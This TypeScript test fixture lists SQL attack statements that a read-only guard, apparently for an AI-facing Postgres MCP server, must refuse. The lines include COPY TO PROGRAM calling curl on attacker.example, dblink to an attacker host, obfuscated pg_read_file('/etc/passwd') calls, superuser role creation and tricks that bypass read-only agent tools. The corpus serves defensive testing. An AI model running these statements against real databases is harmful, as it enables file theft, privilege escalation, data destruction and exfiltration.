/**
 * Statements that must never run on a read-only connection, by family. `code` is the refusal the
 * guard must give on a read-only connection; `writeMode` says whether a write-enabled connection
 * runs it (`allowed`) or still refuses it (`refused`) — the write-mode policy in data form.
 * Table and function names refer to test/guard/fixture.sql where it matters.
 */
import type { GuardCode } from '../../src/guard/index.js';

export type AttackFamily =
  | 'empty-or-invalid'
  | 'multiple-statements'
  | 'transaction-control'
  | 'session-state'
  | 'prepared-statements'
  | 'cursors'
  | 'arbitrary-code'
  | 'copy'
  | 'server-config'
  | 'notify'
  | 'maintenance'
  | 'ddl'
  | 'privileges'
  | 'remote'
  | 'dml'
  | 'explain'
  | 'select-into'
  | 'locking-clause'
  | 'data-modifying-cte'
  | 'file-access'
  | 'credentials'
  | 'remote-functions'
  | 'settings-functions'
  | 'server-functions'
  | 'other-backends'
  | 'sequences'
  | 'advisory-locks'
  | 'logging'
  | 'replication'
  | 'statistics'
  | 'sql-from-text'
  | 'hidden-call'
  | 'attribute-notation'
  | 'obfuscation'
  | 'string-literal';

export interface AttackEntry {
  readonly sql: string;
  readonly family: AttackFamily;
  readonly note: string;
  /** The refusal expected on a read-only connection. */
  readonly code: GuardCode;
  /** Whether a write-enabled connection lets it through. */
  readonly writeMode: 'allowed' | 'refused';
}

const entry =
  (family: AttackFamily, code: GuardCode, writeMode: AttackEntry['writeMode'] = 'refused') =>
  (sql: string, note: string): AttackEntry => ({ sql, family, note, code, writeMode });

const invalid = entry('empty-or-invalid', 'EMPTY_STATEMENT');
const multi = entry('multiple-statements', 'MULTIPLE_STATEMENTS');
const tx = entry('transaction-control', 'STATEMENT_NOT_ALLOWED');
const session = entry('session-state', 'STATEMENT_NOT_ALLOWED');
const prepared = entry('prepared-statements', 'STATEMENT_NOT_ALLOWED');
const cursor = entry('cursors', 'STATEMENT_NOT_ALLOWED');
const code = entry('arbitrary-code', 'STATEMENT_NOT_ALLOWED');
const copy = entry('copy', 'STATEMENT_NOT_ALLOWED');
const server = entry('server-config', 'STATEMENT_NOT_ALLOWED');
const maintenance = entry('maintenance', 'WRITE_NOT_ALLOWED', 'allowed');
const ddl = entry('ddl', 'WRITE_NOT_ALLOWED', 'allowed');
const privileges = entry('privileges', 'STATEMENT_NOT_ALLOWED');
const remote = entry('remote', 'STATEMENT_NOT_ALLOWED');
const dml = entry('dml', 'WRITE_NOT_ALLOWED', 'allowed');
const locking = entry('locking-clause', 'LOCKING_CLAUSE', 'allowed');
const dmCte = entry('data-modifying-cte', 'DATA_MODIFYING_CTE', 'allowed');
const file = entry('file-access', 'DENIED_FUNCTION');
const hidden = entry('hidden-call', 'DENIED_FUNCTION');
const attribute = entry('attribute-notation', 'DENIED_FUNCTION');
const obfuscated = entry('obfuscation', 'DENIED_FUNCTION');
const sqlText = entry('sql-from-text', 'DENIED_FUNCTION');

export const ATTACK_CORPUS: readonly AttackEntry[] = [
  invalid('', 'empty input'),
  invalid('  ;  ', 'only a semicolon'),
  invalid('-- just a comment\n/* and another */', 'only comments'),
  entry('empty-or-invalid', 'SYNTAX_ERROR')('SELECT * FROM orders WHERE', 'syntax error'),
  entry('empty-or-invalid', 'SYNTAX_ERROR')("SELECT 'unterminated", 'unterminated literal'),

  multi(
    'COMMIT; INSERT INTO orders (customer_id, total) VALUES (1, 0)',
    'the reference server’s READ ONLY bypass',
  ),
  multi('SELECT 1; DELETE FROM orders', 'stacked DELETE'),
  multi('SELECT 1 /* ; */ ; DROP TABLE orders', 'comment before the real separator'),
  multi("SELECT 'a;b'; UPDATE orders SET total = 0", 'semicolon in a literal, then a real one'),
  multi('SELECT $$;$$; TRUNCATE orders', 'semicolon in a dollar quote, then a real one'),
  multi('ROLLBACK; SET default_transaction_read_only = off; DELETE FROM orders', 'three statements'),

  tx('BEGIN', 'BEGIN'),
  tx('BEGIN READ WRITE', 'BEGIN READ WRITE'),
  tx('START TRANSACTION ISOLATION LEVEL SERIALIZABLE, READ WRITE', 'START TRANSACTION'),
  tx('COMMIT', 'COMMIT ends pgmcp’s READ ONLY transaction'),
  tx('END', 'END is COMMIT'),
  tx('ROLLBACK', 'ROLLBACK'),
  tx('ABORT', 'ABORT is ROLLBACK'),
  tx('SAVEPOINT s1', 'SAVEPOINT'),
  tx('RELEASE SAVEPOINT s1', 'RELEASE'),
  tx('ROLLBACK TO SAVEPOINT s1', 'ROLLBACK TO'),
  tx("PREPARE TRANSACTION 'pgmcp'", 'two-phase commit'),
  tx("COMMIT PREPARED 'pgmcp'", 'two-phase commit'),

  session('SET search_path = evil, public', 'search_path hijack'),
  session('SET LOCAL statement_timeout = 0', 'SET LOCAL lifts the timeout'),
  session('SET SESSION default_transaction_read_only = off', 'turns read-only off for the pooled session'),
  session('SET TRANSACTION READ WRITE', 'SET TRANSACTION'),
  session('SET SESSION CHARACTERISTICS AS TRANSACTION READ WRITE', 'session characteristics'),
  session('RESET ALL', 'RESET ALL'),
  session('RESET default_transaction_read_only', 'RESET'),
  session('SET ROLE postgres', 'SET ROLE'),
  session('SET SESSION AUTHORIZATION postgres', 'SET SESSION AUTHORIZATION'),
  session('RESET ROLE', 'RESET ROLE'),
  session('DISCARD ALL', 'DISCARD'),
  session('LISTEN pgmcp_channel', 'LISTEN'),
  session('UNLISTEN *', 'UNLISTEN'),

  prepared('PREPARE p AS DELETE FROM orders', 'PREPARE hides the statement'),
  prepared('EXECUTE p', 'EXECUTE runs a statement the guard never saw'),
  prepared('DEALLOCATE ALL', 'DEALLOCATE'),
  entry('explain', 'STATEMENT_NOT_ALLOWED')('EXPLAIN ANALYZE EXECUTE p', 'EXPLAIN of EXECUTE'),

  cursor('DECLARE c CURSOR WITH HOLD FOR SELECT * FROM orders', 'WITH HOLD cursor outlives the transaction'),
  cursor('FETCH 10 FROM c', 'FETCH'),
  cursor('MOVE LAST IN c', 'MOVE'),
  cursor('CLOSE c', 'CLOSE'),

  code('DO $$ BEGIN PERFORM pg_sleep(1); END $$', 'DO runs plpgsql'),
  code("DO LANGUAGE plpgsql $x$ BEGIN EXECUTE 'DROP TABLE orders'; END $x$", 'DO with dynamic SQL'),
  code(
    "CREATE FUNCTION f() RETURNS text LANGUAGE sql AS $$ SELECT pg_read_file('/etc/passwd') $$",
    'CREATE FUNCTION hides a call in a string body',
  ),
  code("CREATE OR REPLACE PROCEDURE p() LANGUAGE sql AS 'DELETE FROM orders'", 'CREATE PROCEDURE'),
  code('ALTER FUNCTION st_distance(point, point) SECURITY DEFINER', 'ALTER FUNCTION'),
  code('CREATE EXTENSION dblink', 'CREATE EXTENSION'),
  code("LOAD 'auto_explain'", 'LOAD a shared library'),
  code('CREATE RULE r AS ON INSERT TO orders DO ALSO DELETE FROM customers', 'CREATE RULE'),
  code('CREATE CAST (text AS int) WITH FUNCTION pg_read_file(text)', 'a cast that calls a denied function'),
  code('CREATE EVENT TRIGGER e ON ddl_command_start EXECUTE FUNCTION f()', 'event trigger'),
  entry('arbitrary-code', 'WRITE_NOT_ALLOWED', 'allowed')('CALL refresh_stats()', 'CALL a procedure'),
  entry('arbitrary-code', 'DENIED_FUNCTION')("CALL pg_read_file('/etc/passwd')", 'CALL of a denied function'),

  copy("COPY orders TO '/tmp/orders.csv'", 'COPY to a server file'),
  copy("COPY orders FROM '/etc/passwd'", 'COPY from a server file'),
  copy("COPY (SELECT 1) TO PROGRAM 'curl http://attacker.example'", 'COPY TO PROGRAM'),
  copy("COPY orders FROM PROGRAM 'id'", 'COPY FROM PROGRAM'),
  copy('COPY orders TO STDOUT', 'COPY protocol'),

  server('ALTER SYSTEM SET ssl = off', 'ALTER SYSTEM'),
  server('ALTER SYSTEM RESET ALL', 'ALTER SYSTEM RESET'),
  server('CHECKPOINT', 'CHECKPOINT'),
  server("CREATE TABLESPACE t LOCATION '/tmp'", 'tablespace on a server path'),

  entry('notify', 'WRITE_NOT_ALLOWED', 'allowed')("NOTIFY pgmcp_channel, 'hello'", 'NOTIFY'),
  entry('notify', 'DENIED_FUNCTION', 'allowed')("SELECT pg_notify('pgmcp_channel', 'hello')", 'pg_notify()'),

  maintenance('VACUUM orders', 'VACUUM'),
  maintenance('VACUUM (FULL, ANALYZE) orders', 'VACUUM FULL'),
  maintenance('ANALYZE orders', 'ANALYZE'),
  maintenance('CLUSTER orders USING orders_pkey', 'CLUSTER'),
  maintenance('REINDEX TABLE orders', 'REINDEX'),
  maintenance('REFRESH MATERIALIZED VIEW order_summary', 'REFRESH MATERIALIZED VIEW'),
  entry('maintenance', 'WRITE_NOT_ALLOWED', 'allowed')('LOCK TABLE orders IN ACCESS EXCLUSIVE MODE', 'LOCK'),

  ddl('CREATE TEMP TABLE scratch (id int)', 'temp table on a pooled session'),
  ddl('CREATE TABLE stolen AS SELECT * FROM customers', 'CREATE TABLE AS'),
  ddl('CREATE MATERIALIZED VIEW mv AS SELECT 1', 'CREATE MATERIALIZED VIEW'),
  ddl('CREATE INDEX ON orders (status)', 'CREATE INDEX'),
  ddl('ALTER TABLE orders ADD COLUMN x int', 'ALTER TABLE'),
  ddl('DROP TABLE orders', 'DROP TABLE'),
  ddl('TRUNCATE orders', 'TRUNCATE'),
  ddl("COMMENT ON TABLE orders IS 'owned'", 'COMMENT ON'),
  ddl('CREATE SEQUENCE s', 'CREATE SEQUENCE'),
  entry('ddl', 'STATEMENT_NOT_ALLOWED')('DROP EXTENSION plpgsql', 'DROP EXTENSION'),
  entry('ddl', 'STATEMENT_NOT_ALLOWED')('ALTER TABLE orders OWNER TO postgres', 'ownership change'),
  entry('ddl', 'STATEMENT_NOT_ALLOWED')('ALTER TABLE orders DISABLE ROW LEVEL SECURITY', 'RLS off'),

  privileges(
    "SECURITY LABEL FOR selinux ON TABLE orders IS 'system_u:object_r:sepgsql_table_t:s0'",
    'SECURITY LABEL',
  ),
  privileges('GRANT ALL ON orders TO PUBLIC', 'GRANT'),
  privileges('REVOKE SELECT ON orders FROM PUBLIC', 'REVOKE'),
  privileges('GRANT pg_read_server_files TO current_user', 'GRANT role'),
  privileges('CREATE ROLE evil SUPERUSER LOGIN', 'CREATE ROLE'),
  privileges('ALTER ROLE current_user SET default_transaction_read_only = off', 'ALTER ROLE … SET'),
  privileges('CREATE POLICY p ON orders USING (true)', 'CREATE POLICY'),
  privileges('ALTER DEFAULT PRIVILEGES GRANT ALL ON TABLES TO PUBLIC', 'default privileges'),
  entry('privileges', 'STATEMENT_NOT_ALLOWED')('CREATE DATABASE other', 'CREATE DATABASE'),
  entry('privileges', 'STATEMENT_NOT_ALLOWED')(
    'ALTER DATABASE postgres SET default_transaction_read_only = off',
    'ALTER DATABASE … SET',
  ),

  remote('CREATE SERVER s FOREIGN DATA WRAPPER postgres_fdw', 'foreign server'),
  remote("CREATE USER MAPPING FOR current_user SERVER s OPTIONS (user 'x')", 'user mapping'),
  remote('IMPORT FOREIGN SCHEMA public FROM SERVER s INTO public', 'import foreign schema'),
  remote("CREATE SUBSCRIPTION sub CONNECTION 'host=attacker.example' PUBLICATION p", 'subscription'),

  dml('INSERT INTO orders (customer_id, total) VALUES (1, 0)', 'INSERT'),
  dml('UPDATE orders SET total = 0', 'UPDATE'),
  dml('DELETE FROM orders', 'DELETE'),
  dml('MERGE INTO orders o USING customers c ON o.customer_id = c.id WHEN MATCHED THEN DELETE', 'MERGE'),
  dml(
    'INSERT INTO customers (id, name) VALUES (99, $$x$$) ON CONFLICT DO NOTHING RETURNING id',
    'INSERT … RETURNING',
  ),
  entry('dml', 'SYSTEM_CATALOG_WRITE')(
    "UPDATE pg_settings SET setting = 'off' WHERE name = 'default_transaction_read_only'",
    'pg_settings is set_config in disguise',
  ),
  entry('dml', 'SYSTEM_CATALOG_WRITE')('DELETE FROM pg_catalog.pg_class', 'catalog write'),

  entry(
    'explain',
    'EXPLAIN_ANALYZE_OF_WRITE',
    'allowed',
  )('EXPLAIN ANALYZE DELETE FROM orders', 'EXPLAIN ANALYZE executes'),
  entry(
    'explain',
    'EXPLAIN_ANALYZE_OF_WRITE',
    'allowed',
  )('EXPLAIN (ANALYZE, BUFFERS) UPDATE orders SET total = 0', 'option list'),
  entry(
    'explain',
    'EXPLAIN_ANALYZE_OF_WRITE',
    'allowed',
  )('EXPLAIN (ANALYZE true) INSERT INTO orders DEFAULT VALUES', 'ANALYZE true'),
  entry(
    'explain',
    'EXPLAIN_ANALYZE_OF_WRITE',
    'allowed',
  )('EXPLAIN ANALYZE CREATE TABLE t2 AS SELECT 1', 'EXPLAIN ANALYZE CREATE TABLE AS'),
  entry(
    'explain',
    'WRITE_NOT_ALLOWED',
    'allowed',
  )('EXPLAIN DELETE FROM orders', 'plain EXPLAIN of a write: write mode only'),
  entry('explain', 'DENIED_FUNCTION')(
    "EXPLAIN ANALYZE SELECT pg_read_file('/etc/passwd')",
    'denied call under EXPLAIN',
  ),
  entry(
    'explain',
    'DATA_MODIFYING_CTE',
    'allowed',
  )(
    'EXPLAIN ANALYZE WITH d AS (DELETE FROM orders RETURNING *) SELECT * FROM d',
    'data-modifying CTE under EXPLAIN',
  ),

  entry('select-into', 'SELECT_INTO', 'allowed')('SELECT * INTO stolen FROM customers', 'SELECT INTO'),
  entry('select-into', 'SELECT_INTO', 'allowed')('SELECT 1 AS x INTO TEMP t', 'SELECT INTO TEMP'),

  locking('SELECT * FROM orders FOR UPDATE', 'FOR UPDATE'),
  locking('SELECT * FROM orders FOR NO KEY UPDATE SKIP LOCKED', 'FOR NO KEY UPDATE'),
  locking('SELECT * FROM orders FOR SHARE NOWAIT', 'FOR SHARE'),
  locking('SELECT * FROM orders FOR KEY SHARE', 'FOR KEY SHARE'),
  locking('SELECT * FROM (SELECT * FROM orders FOR UPDATE) s', 'in a subquery'),
  locking('WITH l AS (SELECT * FROM orders FOR UPDATE) SELECT count(*) FROM l', 'in a CTE'),
  locking('SELECT (SELECT id FROM orders LIMIT 1 FOR UPDATE)', 'in a scalar subquery'),

  dmCte('WITH d AS (DELETE FROM orders RETURNING *) SELECT * FROM d', 'DELETE in WITH'),
  dmCte('WITH u AS (UPDATE orders SET total = 0 RETURNING id) SELECT count(*) FROM u', 'UPDATE in WITH'),
  dmCte('WITH i AS (INSERT INTO orders DEFAULT VALUES RETURNING id) SELECT 1', 'INSERT in WITH'),
  dmCte(
    'WITH m AS (MERGE INTO orders o USING customers c ON o.customer_id = c.id WHEN MATCHED THEN DELETE RETURNING o.id) SELECT 1',
    'MERGE … RETURNING in WITH',
  ),
  dmCte(
    'SELECT * FROM (WITH d AS (DELETE FROM orders RETURNING *) SELECT * FROM d) s',
    'nested in a subquery',
  ),
  dmCte(
    'WITH o AS (WITH i AS (DELETE FROM orders RETURNING *) SELECT * FROM i) SELECT * FROM o',
    'nested CTE inside a CTE',
  ),
  dmCte(
    'SELECT * FROM customers WHERE id IN (WITH d AS (DELETE FROM orders RETURNING customer_id) SELECT customer_id FROM d)',
    'in an IN subquery',
  ),

  file("SELECT pg_read_file('/etc/passwd')", 'Postgres MCP Pro’s restricted-mode bypass'),
  file("SELECT pg_catalog.pg_read_file('/etc/passwd', 0, 100)", 'schema-qualified'),
  file("SELECT pg_read_binary_file('/etc/passwd')", 'binary'),
  file("SELECT * FROM pg_ls_dir('.')", 'in FROM'),
  file('SELECT * FROM pg_ls_waldir()', 'pg_ls_*'),
  file("SELECT * FROM pg_stat_file('postgresql.conf')", 'pg_stat_file'),
  file("SELECT lo_import('/etc/passwd')", 'lo_import'),
  file("SELECT lo_export(1234, '/tmp/x')", 'lo_export'),
  entry('file-access', 'DENIED_FUNCTION', 'allowed')('SELECT lo_get(1234)', 'lo_get'),
  entry('file-access', 'DENIED_FUNCTION', 'allowed')("SELECT lo_from_bytea(0, '\\x00')", 'lo_from_bytea'),
  file("SELECT pg_file_write('x', 'y', false)", 'adminpack'),
  file('SELECT pg_current_logfile()', 'log path'),
  entry('file-access', 'DENIED_RELATION')('SELECT * FROM pg_file_settings', 'view over the config files'),
  entry('file-access', 'DENIED_RELATION')('SELECT * FROM pg_catalog.pg_hba_file_rules', 'pg_hba.conf'),

  entry('remote-functions', 'DENIED_FUNCTION')(
    "SELECT * FROM dblink('host=attacker.example', 'SELECT 1') AS t(x int)",
    'dblink',
  ),
  entry('remote-functions', 'DENIED_FUNCTION')(
    "SELECT dblink_exec('dbname=postgres', 'DROP TABLE orders')",
    'dblink_exec: a write outside the transaction',
  ),
  entry('remote-functions', 'DENIED_FUNCTION')(
    "SELECT public.dblink_connect('c', 'dbname=postgres')",
    'qualified',
  ),
  entry('remote-functions', 'DENIED_FUNCTION')('SELECT postgres_fdw_disconnect_all()', 'postgres_fdw'),

  entry('settings-functions', 'DENIED_FUNCTION')(
    "SELECT set_config('default_transaction_read_only', 'off', false)",
    'set_config',
  ),
  entry('settings-functions', 'DENIED_FUNCTION')(
    "SELECT pg_catalog.set_config('search_path', 'evil', true)",
    'qualified',
  ),
  entry('settings-functions', 'DENIED_FUNCTION')(
    "SELECT (SELECT set_config('pgmcp.x', '1', false))",
    'through a subselect',
  ),
  entry('settings-functions', 'DENIED_FUNCTION')('SELECT pg_reload_conf()', 'reload'),

  entry('server-functions', 'DENIED_FUNCTION')("SELECT pg_create_restore_point('x')", 'restore point'),
  entry('server-functions', 'DENIED_FUNCTION')('SELECT pg_switch_wal()', 'WAL switch'),
  entry('server-functions', 'DENIED_FUNCTION')('SELECT pg_promote()', 'promote'),
  entry(
    'server-functions',
    'DENIED_FUNCTION',
    'allowed',
  )('SELECT txid_current()', 'assigns an XID in a READ ONLY transaction'),
  entry('server-functions', 'DENIED_FUNCTION')('SELECT pg_export_snapshot()', 'snapshot file'),

  entry('other-backends', 'DENIED_FUNCTION')(
    'SELECT pg_terminate_backend(pid) FROM pg_stat_activity',
    'terminate',
  ),
  entry('other-backends', 'DENIED_FUNCTION')('SELECT pg_cancel_backend(123)', 'cancel'),
  entry('other-backends', 'DENIED_FUNCTION')('SELECT pg_log_backend_memory_contexts(123)', 'signal to log'),

  entry(
    'sequences',
    'DENIED_FUNCTION',
    'allowed',
  )("SELECT nextval('orders_id_seq')", 'nextval is not rolled back'),
  entry('sequences', 'DENIED_FUNCTION', 'allowed')("SELECT setval('orders_id_seq', 1)", 'setval'),

  entry('advisory-locks', 'DENIED_FUNCTION')('SELECT pg_advisory_lock(1)', 'session-level lock'),
  entry('advisory-locks', 'DENIED_FUNCTION')('SELECT pg_try_advisory_xact_lock(1)', 'try variant'),

  entry('logging', 'DENIED_FUNCTION')('SELECT pg_rotate_logfile()', 'log rotation'),
  entry('logging', 'DENIED_FUNCTION')('SELECT pg_logfile_rotate()', 'adminpack name'),

  entry('replication', 'DENIED_FUNCTION')(
    "SELECT pg_create_logical_replication_slot('s', 'pgoutput')",
    'create slot',
  ),
  entry('replication', 'DENIED_FUNCTION')("SELECT pg_drop_replication_slot('s')", 'drop slot'),
  entry('replication', 'DENIED_FUNCTION')("SELECT pg_replication_origin_create('o')", 'origin'),
  entry('replication', 'DENIED_FUNCTION')(
    "SELECT * FROM pg_logical_slot_get_changes('s', NULL, NULL)",
    'consume changes',
  ),

  entry('statistics', 'DENIED_FUNCTION')('SELECT pg_stat_reset()', 'reset'),
  entry('statistics', 'DENIED_FUNCTION')("SELECT pg_stat_reset_shared('bgwriter')", 'reset shared'),
  entry('statistics', 'DENIED_FUNCTION')('SELECT pg_stat_statements_reset()', 'pg_stat_statements'),
  entry('statistics', 'DENIED_FUNCTION')(
    "SELECT pg_clear_relation_stats('public', 'orders')",
    'PG 18 statistics manipulation',
  ),

  sqlText(
    "SELECT query_to_xml('INSERT INTO orders DEFAULT VALUES RETURNING 1', true, true, '')",
    'query_to_xml runs its text',
  ),
  sqlText("SELECT cursor_to_xml('c', 1, true, true, '')", 'cursor_to_xml'),
  sqlText("SELECT table_to_xml('orders', true, true, '')", 'table_to_xml'),
  sqlText("SELECT database_to_xml(true, true, '')", 'database_to_xml'),
  sqlText("SELECT * FROM ts_stat('SELECT to_tsvector(note) FROM orders')", 'ts_stat runs its text'),
  sqlText(
    "SELECT ts_rewrite('a'::tsquery, 'SELECT $$a$$::tsquery, $$b$$::tsquery')",
    'two-argument ts_rewrite runs its text',
  ),

  hidden("SELECT * FROM orders o, LATERAL (SELECT pg_read_file('/etc/passwd')) f", 'lateral subquery'),
  hidden("SELECT * FROM orders o JOIN LATERAL pg_ls_dir('.') d ON true", 'lateral function'),
  hidden("SELECT * FROM orders ORDER BY pg_read_file('/etc/passwd')", 'ORDER BY'),
  hidden("SELECT status FROM orders GROUP BY status, pg_read_file('/etc/passwd')", 'GROUP BY'),
  hidden("SELECT status FROM orders GROUP BY status HAVING pg_read_file('/etc/passwd') IS NULL", 'HAVING'),
  hidden("SELECT CASE WHEN true THEN pg_ls_dir('.') END", 'CASE'),
  hidden("SELECT pg_read_file('/etc/passwd')::int", 'cast operand'),
  hidden("SELECT CAST(pg_read_file('/etc/passwd') AS text)", 'CAST'),
  hidden("VALUES (1, pg_read_file('/etc/passwd'))", 'VALUES list'),
  hidden(
    "SELECT count(*) FILTER (WHERE pg_read_file('/etc/passwd') IS NOT NULL) FROM orders",
    'aggregate FILTER',
  ),
  hidden("SELECT sum(total) OVER (ORDER BY set_config('a.b', 'c', false)) FROM orders", 'window ORDER BY'),
  hidden(
    "SELECT row_number() OVER w FROM orders WINDOW w AS (PARTITION BY pg_read_file('/etc/passwd'))",
    'WINDOW clause',
  ),
  entry(
    'hidden-call',
    'DENIED_FUNCTION',
    'allowed',
  )("SELECT * FROM orders WHERE id IN (SELECT nextval('orders_id_seq'))", 'IN subquery'),
  hidden('SELECT EXISTS (SELECT pg_terminate_backend(1))', 'EXISTS'),
  hidden("SELECT (ARRAY[pg_read_file('/etc/passwd')])[1]", 'array subscript'),
  hidden("SELECT xmlelement(name x, pg_read_file('/etc/passwd'))", 'XML constructor'),
  hidden(
    "SELECT * FROM JSON_TABLE(jsonb '[]', '$[*]' COLUMNS (a text PATH '$.a' DEFAULT pg_read_file('/etc/passwd') ON EMPTY)) jt",
    'JSON_TABLE default',
  ),
  hidden(
    "SELECT * FROM XMLTABLE('/r' PASSING xml '<r/>' COLUMNS a text DEFAULT pg_read_file('/etc/passwd')) x",
    'XMLTABLE default',
  ),
  hidden("SELECT * FROM ROWS FROM (generate_series(1, 2), pg_ls_dir('.')) AS r(a, b)", 'ROWS FROM'),
  hidden("SELECT jsonb_agg(o ORDER BY pg_read_file('/etc/passwd')) FROM orders o", 'aggregate ORDER BY'),
  hidden(
    "SELECT percentile_cont(0.5) WITHIN GROUP (ORDER BY length(pg_read_file('/etc/passwd')))",
    'WITHIN GROUP',
  ),
  hidden(
    "SELECT id FROM orders UNION ALL SELECT length(pg_read_file('/etc/passwd'))",
    'set operation branch',
  ),
  hidden("SELECT * FROM orders LIMIT (SELECT length(pg_read_file('/etc/passwd')))", 'LIMIT'),
  hidden(
    "WITH RECURSIVE r(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM r WHERE set_config('a.b', n::text, false) IS NOT NULL) SELECT * FROM r",
    'recursive CTE',
  ),
  hidden("SELECT COALESCE(NULL, pg_read_file('/etc/passwd'))", 'COALESCE'),
  hidden("SELECT 1 WHERE 'x' = ANY (ARRAY[pg_read_file('/etc/passwd')])", 'ANY(array)'),
  hidden('SELECT * FROM orders TABLESAMPLE SYSTEM (pg_advisory_lock(1)::int)', 'TABLESAMPLE argument'),
  hidden('SELECT (pg_read_file(\'/etc/passwd\') COLLATE "C")', 'COLLATE'),
  entry(
    'hidden-call',
    'DENIED_FUNCTION',
    'allowed',
  )("SELECT * FROM orders WHERE total > ALL (SELECT setval('orders_id_seq', 1))", 'ALL subquery'),
  hidden("SELECT 1 FROM orders o WHERE (SELECT lo_import('/etc/passwd')) > 0", 'scalar subquery in WHERE'),
  hidden("SELECT format('%s', pg_read_file('/etc/passwd'))", 'function argument'),
  hidden(
    "SELECT * FROM orders o JOIN customers c ON c.id = o.customer_id AND pg_read_file('/x') IS NULL",
    'JOIN … ON',
  ),

  attribute("SELECT x.pg_ls_dir FROM unnest(ARRAY['.']) x", 'x.f means f(x): lists a directory'),
  attribute("SELECT ('.'::text).pg_ls_dir", '(expr).f means f(expr)'),
  attribute(
    "SELECT (t.p).pg_read_file FROM (SELECT '/etc/passwd'::text AS p) t",
    'field selection on a column',
  ),
  attribute("SELECT x.lo_import FROM unnest(ARRAY['/etc/passwd']) x", 'x.lo_import'),

  obfuscated("SELECT pg_read_file /* comment */ ('/etc/passwd')", 'comment between name and ('),
  obfuscated("SELECT /* nested /* comment */ still */ pg_read_file('/etc/passwd')", 'nested comment'),
  obfuscated("SELECT pg_read_file -- line comment\n('/etc/passwd')", 'line comment'),
  obfuscated('SELECT pg_read_file($$/etc/passwd$$)', 'dollar quote'),
  obfuscated('SELECT pg_read_file($q$/etc/passwd$q$)', 'tagged dollar quote'),
  obfuscated("SELECT pg_read_file(E'\\x2fetc\\x2fpasswd')", 'E string escapes'),
  obfuscated("SELECT pg_read_file(U&'\\002fetc\\002fpasswd')", 'U& string escapes'),
  obfuscated("SELECT PG_READ_FILE('/etc/passwd')", 'upper case'),
  obfuscated('SELECT "pg_read_file"(\'/etc/passwd\')', 'quoted name'),
  obfuscated(
    'SELECT "PG_READ_FILE"(\'/etc/passwd\')',
    'quoted upper case (a different identifier, refused anyway)',
  ),
  obfuscated('SELECT U&"pg\\005fread\\005ffile"(\'/etc/passwd\')', 'U& identifier escapes'),
  obfuscated('SELECT "pg_catalog"."pg_read_file"(\'/etc/passwd\')', 'quoted qualified'),
  obfuscated("SELECT mydb.pg_catalog.pg_read_file('/etc/passwd')", 'catalog-qualified'),
  obfuscated("SELECT\tpg_read_file\n(\n'/etc/passwd'\n)\n;", 'whitespace and a trailing semicolon'),

  entry('string-literal', 'AMBIGUOUS_STRING_LITERAL')(
    "SELECT '\\'' || pg_ls_dir($$.$$) || ' --'",
    'with standard_conforming_strings=off the call leaves the literal',
  ),
  entry('string-literal', 'AMBIGUOUS_STRING_LITERAL')(
    "SELECT '\\'' || pg_read_file($$/etc/passwd$$) || ' -- '\n AS harmless",
    'the same trick with the tail hidden in a comment',
  ),
];
